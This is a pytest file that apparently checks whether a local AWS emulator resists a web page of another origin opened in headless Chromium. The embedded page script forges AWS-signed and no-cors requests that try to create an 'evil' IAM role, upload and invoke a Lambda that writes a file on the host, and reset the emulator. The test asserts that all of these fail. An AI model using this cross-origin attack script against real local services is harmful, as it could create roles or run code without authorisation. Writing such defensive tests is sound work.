"""A web page of another origin, in a real browser, attacks the embedded AWS."""

import base64
import io
import json
import shutil
import subprocess
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import Queue
from threading import Thread
from typing import Any

import pytest

from local_aws import control
from tests.local_aws.deployed_apis import STAGE, RestApi, deploy_function
from tests.local_aws.deployed_functions import DeployedFunctions

pytestmark = [pytest.mark.local_aws, pytest.mark.browser]

SECONDS = 60
FLAGS = (
    "--headless",
    "--no-sandbox",  # Chromium needs it to run as root
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
)
OPEN = """
exports.handler = async () => ({
  statusCode: 200,
  headers: { "Access-Control-Allow-Origin": "*" },
  body: "open to all pages",
});
"""
PAGE = """
<script type="module">
const { aws, open, role, code } = ATTACK;
const sign = (service) => ({
  Authorization: `AWS4-HMAC-SHA256 Credential=AKIAFORGEDFORGEDFORG/20260101/eu-west-1/${service}`
    + `/aws4_request, SignedHeaders=host, Signature=${"0".repeat(64)}`,
});
const form = new URLSearchParams({
  Action: "CreateRole", Version: "2010-05-08", RoleName: "evil", AssumeRolePolicyDocument: role,
});
const functions = `${aws}/2015-03-31/functions`;
const requests = {
  signed_role: [aws, { method: "POST", headers: sign("iam"), body: form }],
  simple_role: [aws, { method: "POST", body: form, mode: "no-cors" }],
  signed_function: [functions, { method: "POST", headers: sign("lambda"), body: code }],
  simple_function: [functions, { method: "POST", body: code, mode: "no-cors" }],
  invocation: [`${functions}/evil/invocations`, { method: "POST", mode: "no-cors" }],
  reset: [`${aws}/moto-api/reset`, { method: "POST", mode: "no-cors" }],
  identity: [`${aws}/_local_aws/instance`, {}],
  deployed: [open, {}],
};
const results = {};
for (const [name, [url, options]] of Object.entries(requests)) {
  try {
    const response = await fetch(url, options);
    results[name] = response.type === "opaque" ? "opaque" : await response.text();
  } catch (error) {
    results[name] = error.name;
  }
}
await fetch("/", { method: "POST", body: JSON.stringify(results) });
</script>
"""


class _Site(ThreadingHTTPServer):
    """A site of another origin that serves one page and receives the page's results."""

    def __init__(self, page: str) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.page = page.encode()
        self.results: Queue[dict[str, str]] = Queue()


class _Handler(BaseHTTPRequestHandler):
    server: _Site  # pyright: ignore[reportIncompatibleVariableOverride]  # as it is created here

    def do_GET(self) -> None:
        self._answer(self.server.page)

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self._answer(b"")
        self.server.results.put(json.loads(body))

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002  # the base class's name
        """Do not log requests."""


@pytest.fixture
def deployed(shared_server: control.Server) -> DeployedFunctions:
    return DeployedFunctions(server=shared_server)


def _visit(page: str, *, profile: Path) -> dict[str, str]:
    """Open a page in the browser and return what it posts to its own site."""
    browser = shutil.which("chromium")
    assert browser, "install Debian's package chromium"
    site = _Site(page)
    thread = Thread(target=site.serve_forever)
    thread.start()
    address = f"http://localhost:{site.server_port}/"
    with subprocess.Popen(
        [browser, *FLAGS, f"--user-data-dir={profile}", address],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    ) as process:
        try:
            return site.results.get(timeout=SECONDS)
        finally:
            process.terminate()
            site.shutdown()
            thread.join()
            site.server_close()


@pytest.fixture
def open_url(deployed: DeployedFunctions, shared_server: control.Server) -> str:
    """Return the URL of a deployed resource whose answers every page may read."""
    function = deploy_function(deployed, OPEN)
    api = RestApi(deployed, url=shared_server.url)
    api.allow(function)
    api.route("GET", "/open", function)
    api.deploy()
    return f"{shared_server.url}/restapis/{api.id}/{STAGE}/_user_request_/open"


def _code(marker: Path) -> dict[str, Any]:
    """Return a function that leaves a file on this machine."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as files:
        source = f"require('fs').writeFileSync({json.dumps(str(marker))}, '');"
        files.writestr("index.js", f"{source} exports.handler = async () => 1;")
    return {
        "FunctionName": "evil",
        "Runtime": "nodejs22.x",
        "Handler": "index.handler",
        "Role": "arn:aws:iam::123456789012:role/evil",
        "Code": {"ZipFile": base64.b64encode(archive.getvalue()).decode()},
    }


def test_a_page_of_another_origin_reaches_deployed_resources_only(
    deployed: DeployedFunctions, shared_server: control.Server, open_url: str, tmp_path: Path
) -> None:
    marker = tmp_path / "left by the page"
    attack = {
        "aws": shared_server.url,
        "open": open_url,
        "role": json.dumps({"Version": "2012-10-17", "Statement": []}),
        "code": json.dumps(_code(marker)),
    }
    results = _visit(PAGE.replace("ATTACK", json.dumps(attack)), profile=tmp_path / "profile")

    assert results == {
        "signed_role": "TypeError",  # the browser got no permission to send it
        "simple_role": "opaque",
        "signed_function": "TypeError",
        "simple_function": "opaque",
        "invocation": "opaque",
        "reset": "opaque",
        "identity": "TypeError",
        "deployed": "open to all pages",
    }
    assert not marker.exists()
    roles = [role["RoleName"] for role in deployed.iam.list_roles()["Roles"]]
    functions = [
        one.get("FunctionName") for one in deployed.functions.list_functions()["Functions"]
    ]
    assert "evil" not in {*roles, *functions}
    assert roles  # nothing was reset
